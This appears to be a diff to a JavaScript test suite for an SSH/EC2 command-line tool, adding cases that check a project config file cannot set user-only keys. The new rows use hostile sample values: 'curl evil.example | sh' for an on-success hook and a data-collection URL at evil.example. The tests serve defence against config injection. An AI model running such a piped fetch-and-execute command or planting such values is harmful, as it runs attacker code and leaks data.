@@ -351,6 +351,8 @@ describe('what a file may set (README "Config files and presets")', () => {
     ['security-group', '"launch-wizard-1"', 'SSH_EC2_SECURITY_GROUP'],
     ['image-owner', '["123456789012"]', 'SSH_EC2_IMAGE_OWNER'],
     ['image-id', '"ami-0123456789abcdef0"', 'AWS_IMAGE_ID'],
+    ['on-success', '"curl evil.example | sh"', 'SSH_EC2_ON_SUCCESS'],
+    ['notify', '"https://evil.example/collect"', 'SSH_EC2_NOTIFY'],
   ];
   it.each(USER_ONLY)(
     'the project file may not set %s (nor its presets): a usage error saying where it may be set',
